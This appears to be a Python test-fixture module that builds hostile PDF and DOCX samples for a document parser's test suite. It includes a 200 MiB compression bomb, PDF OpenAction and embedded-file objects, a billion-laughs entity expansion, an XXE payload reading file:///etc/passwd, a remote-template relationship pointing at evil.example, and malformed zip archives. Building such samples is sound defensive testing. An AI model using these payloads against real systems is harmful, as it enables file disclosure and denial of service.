"""Hostile files, made here byte by byte: PDFs that act, loop or burst, and DOCX that do."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.samples.letterfiles import docx_of, zipped

_HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
FONT = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << %s >> >>" % FONT
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
TEXT = b"BT /F1 12 Tf 20 200 Td (Please preserve the account) Tj ET"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def flate(content: bytes, extra: bytes = b"/Filter /FlateDecode") -> bytes:
    return stream(zlib.compress(content, 9), extra)


def pdf(objects: dict[int, bytes], trailer: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF of numbered objects; 1 is the catalog, 2 the pages, 3 the page, 4 its content, unless given."""
    every = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: PAGES,
        3: PAGE,
        4: stream(TEXT),
    } | objects
    out = bytearray(_HEAD)
    places: dict[int, int] = {}
    for number, body in sorted(every.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, at in sorted(places.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, at)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (max(every) + 1, trailer, start)
    return bytes(out)


def nested_pages(depth: int) -> dict[int, bytes]:
    """A page tree as deep as asked, from object 10 on."""
    kids = {10 + n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (11 + n) for n in range(depth)}
    return {2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>", **kids, 10 + depth: PAGE}


def in_object_stream(body: bytes) -> bytes:
    """A PDF whose object 5 lies compressed in an object stream, found by a cross-reference stream alone."""
    inside = b"5 0 " + body
    out = bytearray(_HEAD)
    places: dict[int, int] = {}
    every = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: PAGES,
        3: PAGE,
        4: stream(TEXT),
        6: flate(inside, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    }
    for number, content in sorted(every.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    places[7] = len(out)
    rows = [(0, 0, 65535)]
    rows += [(2, 6, 0) if number == 5 else (1, places[number], 0) for number in range(1, 8)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = flate(table, b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode")
    out += b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, places[7])
    return bytes(out)


def embedded(name: bytes, content: bytes) -> dict[int, bytes]:
    """A file inside, as object 20."""
    return {
        20: b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 21 0 R >> >>" % (name, name),
        21: flate(content, b"/Type /EmbeddedFile /Filter /FlateDecode"),
    }


BOMB = flate(b"0" * (200 << 20))
"""200 MiB in 200 KB."""

RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def docx_with(member: str, content: bytes) -> bytes:
    """A DOCX with one member more, or another in its place."""
    return docx_of(["Please preserve the account"], extra={member: content})


def docx_of_xml(document: str) -> bytes:
    return docx_with("word/document.xml", document.encode())


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><lolz>&j;</lolz>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def zip_encrypted() -> bytes:
    """A DOCX whose members say that they are encrypted."""
    data = bytearray(docx_of(["x"]))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def zip_twice() -> bytes:
    """Two members of one name: two readers may read two letters."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for text in ("one", "two"):
            info = zipfile.ZipInfo("word/document.xml")
            archive.writestr(info, text)
            archive.filelist[-1].filename = f"word/document.xml{text}"
            archive.NameToInfo.clear()
        for info in archive.filelist:
            info.filename = "word/document.xml"
    return buffer.getvalue()


def zip_bomb(size_bytes: int) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * size_bytes})
